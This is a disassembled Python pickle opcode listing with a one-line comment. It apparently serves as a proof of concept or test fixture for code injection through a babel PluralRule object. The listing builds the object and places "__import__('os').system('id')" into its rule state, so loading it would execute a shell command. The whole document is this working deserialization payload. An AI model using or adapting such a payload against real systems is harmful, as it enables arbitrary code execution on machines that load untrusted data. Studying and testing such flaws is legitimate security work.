# the same, and other words are put into the list that became the state: the rule would run them
PROTO 4
GLOBAL babel.plural PluralRule
EMPTY_TUPLE
NEWOBJ
EMPTY_LIST
MEMOIZE
BUILD
BINGET 0
SHORT_BINUNICODE "one"
SHORT_BINUNICODE "value"
SHORT_BINUNICODE "__import__('os').system('id')"
TUPLE1
TUPLE2
TUPLE2
APPEND
POP
STOP
